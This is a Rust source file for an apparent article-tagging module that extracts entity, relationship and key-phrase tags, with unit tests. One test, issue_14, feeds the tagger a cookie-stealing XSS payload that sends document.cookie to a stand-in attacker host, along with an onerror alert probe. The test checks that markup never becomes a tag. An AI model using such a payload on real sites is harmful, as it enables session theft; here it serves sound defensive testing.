//! Topic tags for an article: entities, relationships and key phrases.

use crate::gazetteer::{self, EntityKind, Mention};
use crate::keyphrase;
use crate::plain::prose;
use crate::tokenize::tokens;
use model::{Tag, TagKind, TagName};
use std::collections::HashMap;

/// How many tags of each kind an article gets at most.
#[derive(Clone, Debug)]
pub struct TagOptions {
    /// Entity tags.
    pub max_entities: usize,
    /// Relationship tags.
    pub max_relationships: usize,
    /// Key-phrase tags.
    pub max_keyphrases: usize,
}

impl Default for TagOptions {
    fn default() -> Self {
        Self { max_entities: 8, max_relationships: 3, max_keyphrases: 3 }
    }
}

/// An entity pair's weighted count, and how often each written order occurs.
type PairStats = (f32, HashMap<(usize, usize), u32>);

/// Mentions in the title count this many times over.
const TITLE_WEIGHT: f32 = 3.0;

/// How many ranked phrases tagging looks through for its key-phrase tags,
/// and `tagline tag` reports as key phrases.
pub const KEYPHRASE_POOL: usize = 10;

/// Tags an article. The result is sorted best first within each kind:
/// relationships, then entities, then key phrases.
pub fn tag_article(title: &str, text: &str, opts: &TagOptions) -> Vec<Tag> {
    let (title, text) = (prose(title), prose(text));
    let ranked = keyphrase::rank_with(&title, &text, KEYPHRASE_POOL, &keyphrase::RankParams::default());
    tags_of_prose(&title, &text, opts, &ranked.topics)
}

/// `tag_article`, given the article's topic phrases as `keyphrase::rank_with`
/// ranked them (`Ranked::topics`), for a caller that needs the ranking too.
pub fn tag_article_ranked(title: &str, text: &str, opts: &TagOptions, phrases: &[keyphrase::KeyPhrase]) -> Vec<Tag> {
    tags_of_prose(&prose(title), &prose(text), opts, phrases)
}

/// `tag_article_ranked` on title and text that are already prose: no tag
/// can come from markup, a URL or code.
fn tags_of_prose(title: &str, text: &str, opts: &TagOptions, phrases: &[keyphrase::KeyPhrase]) -> Vec<Tag> {
    let g = gazetteer::builtin();
    let mut entity_score: HashMap<usize, f32> = HashMap::new();
    // Unordered pair -> (count, written orders with their counts)
    let mut pairs: HashMap<(usize, usize), PairStats> = HashMap::new();
    for (weight, part) in [(TITLE_WEIGHT, title), (1.0, text)] {
        let toks = tokens(part);
        let mentions = g.find(part, &toks);
        for m in &mentions {
            *entity_score.entry(m.entity).or_default() += weight * m.weight;
        }
        for (a, b) in hyphenated_pairs(part, &toks, &mentions) {
            let key = (a.min(b), a.max(b));
            let e = pairs.entry(key).or_default();
            e.0 += weight;
            *e.1.entry((a, b)).or_default() += 1;
        }
    }

    let mut out = Vec::new();
    let mut rels: Vec<((usize, usize), f32)> = pairs
        .iter()
        .filter(|(_, (score, _))| *score >= 2.0)
        .map(|(_, (score, orders))| {
            let best =
                orders.iter().max_by(|x, y| x.1.cmp(y.1).then(y.0.cmp(x.0))).map(|(o, _)| *o).unwrap_or_default();
            (best, *score)
        })
        .collect();
    rels.sort_by(|a, b| b.1.total_cmp(&a.1).then(a.0.cmp(&b.0)));
    let top_rel = rels.first().map_or(1.0, |r| r.1);
    for ((a, b), score) in rels.into_iter().take(opts.max_relationships) {
        let phrase = format!("{}-{}", g.entity(a).name, g.entity(b).name);
        if let Ok(name) = TagName::parse(&phrase) {
            out.push(Tag { name, kind: TagKind::Relationship, score: score / top_rel });
        }
    }

    let mut ents: Vec<(usize, f32)> = entity_score.into_iter().filter(|(_, s)| *s >= 2.0).collect();
    ents.sort_by(|a, b| b.1.total_cmp(&a.1).then(a.0.cmp(&b.0)));
    let top_ent = ents.first().map_or(1.0, |e| e.1);
    let mut entity_names: Vec<String> = Vec::new();
    for (id, score) in ents.into_iter().take(opts.max_entities) {
        let e = g.entity(id);
        if let Ok(name) = TagName::parse(&e.name) {
            entity_names.push(e.name.to_lowercase());
            out.push(Tag { name, kind: TagKind::Entity, score: score / top_ent });
        }
    }

    let mut n = 0;
    for k in phrases {
        // A single word is too vague a tag, but a phrase of an unspaced
        // script ("中亚峰会") is written as one.
        let single_word = k.phrase.split([' ', '-']).count() < 2 && !k.phrase.chars().any(model::is_unspaced);
        if n == opts.max_keyphrases || single_word {
            continue;
        }
        // A phrase that only restates an entity adds nothing.
        if entity_names.iter().any(|e| k.phrase.contains(e.as_str()) || e.contains(&k.phrase)) {
            continue;
        }
        // A hyphen in a tag name marks a relationship (#China-CentralAsia):
        // "free-trade agreement" is #FreeTradeAgreement.
        if let Ok(name) = TagName::parse(&acronyms_as_written(&k.phrase.replace('-', " "), title, text)) {
            if out.iter().any(|t: &Tag| t.name.key() == name.key()) {
                continue;
            }
            out.push(Tag { name, kind: TagKind::KeyPhrase, score: k.score });
            n += 1;
        }
    }
    out
}

/// `phrase` (lower case, as ranked) with each word the article writes as
/// an acronym ("UN", "EU", "AI") in capitals again, so that a tag reads
/// #UNSchool, not #UnSchool.
fn acronyms_as_written(phrase: &str, title: &str, text: &str) -> String {
    let acronym = |w: &str| {
        let upper = w.to_uppercase();
        let n = upper.chars().count();
        let written = |t: &str| {
            t.contains(upper.as_str())
                && t.split(|c: char| !c.is_alphanumeric())
                    .any(|tok| tok == upper && tok.chars().any(char::is_alphabetic))
        };
        ((2..=5).contains(&n) && (written(title) || written(text))).then_some(upper)
    };
    phrase.split(' ').map(|w| acronym(w).unwrap_or_else(|| w.to_string())).collect::<Vec<_>>().join(" ")
}

/// Pairs of entity mentions written as "A-B" with nothing else hyphenated to
/// either side, so "China-Kyrgyzstan-Uzbekistan railway" is not read as two
/// relationships.
fn hyphenated_pairs(text: &str, toks: &[crate::tokenize::Token], mentions: &[Mention]) -> Vec<(usize, usize)> {
    let g = gazetteer::builtin();
    let joined = |a: usize, b: usize| a < toks.len() && b < toks.len() && &text[toks[a].end..toks[b].start] == "-";
    let relational = |m: &Mention| !matches!(g.entity(m.entity).kind, EntityKind::Person | EntityKind::City);
    let primary: Vec<&Mention> = {
        // One mention per span: the first listed (a city's own entity, not its country).
        let mut seen = std::collections::HashSet::new();
        mentions.iter().filter(|m| seen.insert(m.first)).collect()
    };
    let mut out = Vec::new();
    for w in primary.windows(2) {
        let (a, b) = (w[0], w[1]);
        if a.last != b.first || !joined(a.last - 1, b.first) || !relational(a) || !relational(b) || a.entity == b.entity
        {
            continue;
        }
        let chained_before = a.first > 0 && joined(a.first - 1, a.first);
        let chained_after = b.last < toks.len() && joined(b.last - 1, b.last);
        if chained_before || chained_after {
            continue;
        }
        out.push((a.entity, b.entity));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn issue_16_acronyms_keep_their_capitals_in_tags() {
        let text = "The UN said the strike on a UN school killed 12. The UN school was a shelter.";
        assert_eq!(acronyms_as_written("un school", "Strike on UN school", text), "UN school");
        assert_eq!(acronyms_as_written("trade deal", "", text), "trade deal");
        assert_eq!(
            acronyms_as_written("us economy", "", "the economy worries us"),
            "us economy",
            "written in lower case only"
        );
    }

    fn names(tags: &[Tag], kind: TagKind) -> Vec<String> {
        tags.iter().filter(|t| t.kind == kind).map(|t| t.name.to_string()).collect()
    }

    #[test]
    fn a_hyphenated_pair_of_entities_is_a_relationship_tag() {
        let tags = tag_article(
            "China-Central Asia cooperation grows",
            "China-Central Asia trade rose. Officials in Astana praised China-Central Asian ties.",
            &TagOptions::default(),
        );
        assert_eq!(names(&tags, TagKind::Relationship), vec!["China-CentralAsia"]);
        let ents = names(&tags, TagKind::Entity);
        assert!(ents.contains(&"China".to_string()) && ents.contains(&"CentralAsia".to_string()), "{ents:?}");
    }

    #[test]
    fn issue_5_an_unspaced_script_gets_phrase_tags_not_one_giant_word() {
        let text = "中亚峰会在西安举行。中亚峰会讨论了铁路和能源合作。各国领导人出席中亚峰会，并讨论能源合作。";
        let tags = tag_article("中亚峰会开幕", text, &TagOptions::default());
        let names: Vec<&str> = tags.iter().map(|t| t.name.as_str()).collect();
        assert!(names.contains(&"中亚峰会"), "{names:?}");
        assert!(names.contains(&"能源合作"), "{names:?}");
        assert!(names.iter().all(|n| n.chars().count() <= 8), "{names:?}");
    }

    #[test]
    fn a_chain_of_three_is_not_a_pair() {
        let tags = tag_article(
            "x",
            "The China-Kyrgyzstan-Uzbekistan railway. The China-Kyrgyzstan-Uzbekistan railway.",
            &TagOptions::default(),
        );
        assert!(names(&tags, TagKind::Relationship).is_empty());
    }

    #[test]
    fn aliases_merge_into_one_relationship_in_the_most_written_order() {
        let tags = tag_article(
            "Central Asia-US relations",
            "The U.S.-Central Asia Forum met. Central Asia-U.S. ties matter.",
            &TagOptions::default(),
        );
        assert_eq!(names(&tags, TagKind::Relationship), vec!["CentralAsia-US"]);
    }

    #[test]
    fn issue_14_no_tag_is_built_from_markup_urls_or_code() {
        let title =
            "<script>fetch('https://evil.example/steal?c='+document.cookie)</script> China and Kazakhstan sign deal";
        let text = "China and Kazakhstan signed a trade deal. <img src=x onerror=alert(1)> The China-Kazakhstan \
                    trade deal covers grain. See https://example.com/china-kazakhstan for more. \
                    window.location.href = 'http://x'; China-Kazakhstan ties grow.";
        let tags = tag_article(title, text, &TagOptions::default());
        for t in &tags {
            let n = t.name.as_str().to_lowercase();
            for bad in ["script", "fetch", "http", "cookie", "evil", "onerror", "alert", "window", "example", "img"] {
                assert!(!n.contains(bad), "{} came from markup or code", t.name);
            }
        }
        assert!(tags.iter().any(|t| t.name.as_str() == "China-Kazakhstan"), "{tags:?}");
    }
}
